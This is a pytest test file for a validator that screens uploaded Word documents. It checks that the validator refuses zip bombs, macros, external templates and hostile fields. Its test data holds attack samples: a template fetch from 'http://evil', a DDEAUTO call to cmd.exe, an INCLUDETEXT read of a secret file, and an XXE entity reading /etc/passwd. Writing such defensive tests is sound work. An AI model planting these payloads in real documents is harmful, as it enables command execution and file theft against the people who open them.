"""What is sent here as a Word file is looked through before anything opens it."""

import zipfile
from io import BytesIO

import pytest

from reintegrate.web.print.word_file import LARGEST, Refused, checked
from tests.print.papers import FORMS, changed, shipped, with_text, with_xml

EMPTY_ZIP = b"PK\x05\x06" + b"\0" * 18
PLAIN = with_text("Quyết định")
RELATIONS = b"""<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" %s/>
</Relationships>"""


def reason(content: bytes) -> str:
    with pytest.raises(Refused) as refused:
        checked(content)
    return refused.value.reason


def zipped(**files: bytes) -> bytes:
    held = BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as new:
        for name, part in files.items():
            new.writestr(name, part)
    return held.getvalue()


@pytest.mark.parametrize("form", FORMS)
def test_the_forms_themselves_pass(form):
    assert checked(shipped(form)) == shipped(form)


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"PK",
        b"not a zip",
        b"%PDF-1.7",
        PLAIN[:200],
        zipped(a=b"b"),
        b"PK\x05\x06" + b"\0" * 18,
    ],
)
def test_what_is_no_word_file_is_refused(content):
    assert reason(content) == "not_word"


def test_a_big_file_is_refused_unopened():
    assert reason(b"\0" * (LARGEST + 1)) == "too_big"


def test_a_zip_bomb_is_refused():
    assert reason(changed(PLAIN, word__media__a=b"\0" * (3 * 1024 * 1024))) == "unpacks_too_big"
    many = {f"word__media__{n}": b"x" for n in range(300)}
    assert reason(changed(PLAIN, **many)) == "unpacks_too_big"


def test_a_part_that_lies_about_its_size_is_refused():
    """The directory says a few bytes; the data unpacks to more."""
    name = b"word/document.xml"
    lying = bytearray(PLAIN)
    at = lying.rfind(b"PK\x01\x02")
    while at >= 0 and lying[at + 46 : at + 46 + len(name)] != name:
        at = lying.rfind(b"PK\x01\x02", 0, at)
    lying[at + 24 : at + 28] = (10).to_bytes(4, "little")

    assert reason(bytes(lying)) in {"unpacks_too_big", "not_word"}


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/activeX/a.xml", "word/embeddings/o"])
def test_what_runs_or_is_embedded_is_refused(name):
    assert reason(changed(PLAIN, **{name.replace("/", "__"): b"<x/>"})) == "macros"


def test_a_macro_document_by_its_kind_is_refused():
    kinds = zipfile.ZipFile(BytesIO(PLAIN)).read("[Content_Types].xml")
    macro = kinds.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    held = {"[Content_Types].xml": macro}
    with zipfile.ZipFile(BytesIO(PLAIN)) as old:
        parts = {i.filename: old.read(i.filename) for i in old.infolist()} | held

    assert reason(zipped(**parts)) == "macros"


def test_anything_fetched_from_elsewhere_is_refused():
    outside = RELATIONS % b'TargetMode="External"'
    content = changed(PLAIN, **{"word___rels__settings_xml.rels": outside})
    assert reason(content) == "outside"


@pytest.mark.parametrize(
    ("inside", "why"),
    [
        ("<w:r><w:instrText>INCLUDETEXT C:/secret.txt</w:instrText></w:r>", "field"),
        ("<w:r><w:instrText> DDEAUTO c:/cmd.exe </w:instrText></w:r>", "field"),
        ('<w:fldSimple w:instr="INCLUDEPICTURE http://evil/x.png"/>', "field"),
        ("<w:ins><w:r><w:t>a</w:t></w:r></w:ins>", "tracked_changes"),
        ("<w:del><w:r><w:delText>a</w:delText></w:r></w:del>", "tracked_changes"),
        ('<w:altChunk w:id="rId1"/>', "macros"),
    ],
)
def test_fields_changes_and_chunks_are_refused(inside, why):
    assert reason(with_xml(inside)) == why


def test_page_numbers_are_allowed():
    assert checked(with_xml("<w:r><w:instrText> PAGE </w:instrText></w:r>"))


@pytest.mark.parametrize(
    "part",
    [
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b"<a>",
        "<!DOCTYPE a><a/>".encode("utf-16"),
    ],
)
def test_entities_and_broken_xml_are_refused(part):
    assert reason(changed(PLAIN, word__document_xml=part)) == "not_word"
